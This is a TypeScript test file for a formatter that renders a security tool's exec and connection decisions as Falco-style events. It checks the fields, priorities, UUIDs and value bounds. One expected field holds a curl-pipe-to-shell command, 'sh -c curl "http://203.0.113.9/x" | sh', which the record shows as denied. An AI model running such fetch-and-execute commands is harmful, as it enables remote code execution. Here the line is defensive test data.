import { describe, expect, it } from "vitest";
import { examples } from "../examples.ts";
import { falco } from "./falco.ts";

const origin = { host: "node-1", cluster: "prod", version: "0.1.0" };
const [decision, firstSeen, transition] = examples("2026-11-22T14:03:07.123456789Z");

function fieldsOf(value: Readonly<Record<string, unknown>>): Record<string, unknown> {
  const fields = value["output_fields"];
  if (typeof fields !== "object" || fields === null) throw new Error("no output_fields");
  return { ...fields };
}

describe("a record in Falco's shape", () => {
  it("has all that Falco's own events have", () => {
    const told = falco(decision!, origin);
    expect(told).toMatchObject({
      time: "2026-11-22T14:03:07.123456789Z",
      rule: "Pahlevan exec denied",
      priority: "Error",
      output:
        "14:03:07.123456789: Error shop/checkout: denied exec /usr/bin/curl by /bin/sh (exec not allowed: no entry of the policy allows it)",
      output_fields: {
        "evt.type": "execve",
        "proc.name": "sh",
        "proc.exepath": "/bin/sh",
        "proc.cmdline": 'sh -c curl "http://203.0.113.9/x" | sh',
        "proc.pid": 4242,
        "proc.pname": "node",
        "user.uid": 1000,
        "container.id": "4f9c1d2e3b5a",
        "k8s.ns.name": "shop",
        "k8s.pod.name": "checkout-7d9f8-x2x4z",
        "pahlevan.policy": "checkout-policy",
        "pahlevan.id": "example-1",
      },
      source: "syscall",
      tags: ["deny", "exec", "pahlevan"],
      hostname: "node-1",
    });
    const uuid = /^[\da-f]{8}-[\da-f]{4}-8[\da-f]{3}-[89ab][\da-f]{3}-[\da-f]{12}$/;
    expect(told["uuid"]).toMatch(uuid);
  });

  it("names a connection's server, and says nothing of what is not known", () => {
    const fields = fieldsOf(falco(firstSeen!, origin));
    expect(fields).toMatchObject({ "fd.sip": "203.0.113.9", "fd.sport": 443, "fd.l4proto": "tcp" });
    expect(fields).not.toHaveProperty("k8s.pod.name");
    expect(fields).not.toHaveProperty("proc.cwd");
  });

  it("tells the loop's own records as another source", () => {
    const told = falco(transition!, origin);
    expect(told).toMatchObject({
      source: "pahlevan",
      priority: "Critical",
      rule: "Pahlevan policy went to Quarantine",
    });
  });

  it("has flat, bounded values only, whatever the record says", () => {
    const long = `/${"😀x".repeat(3_000)}`;
    const hostile = { ...decision!, object: long, reason: long };
    for (const line of [...examples("2026-11-22T14:03:07Z"), hostile]) {
      const told = falco(line, origin);
      for (const value of Object.values(fieldsOf(told))) {
        expect(["string", "number"]).toContain(typeof value);
        const said = String(value);
        expect(said.length).toBeLessThanOrEqual(512);
        expect(Buffer.from(said).toString()).toBe(said);
      }
      expect(String(told["output"]).length).toBeLessThan(2_100);
    }
  });

  it("gives the same record the same UUID, and another record another", () => {
    expect(falco(decision!, origin)["uuid"]).toBe(falco({ ...decision! }, origin)["uuid"]);
    expect(falco(decision!, origin)["uuid"]).not.toBe(falco(firstSeen!, origin)["uuid"]);
  });
});
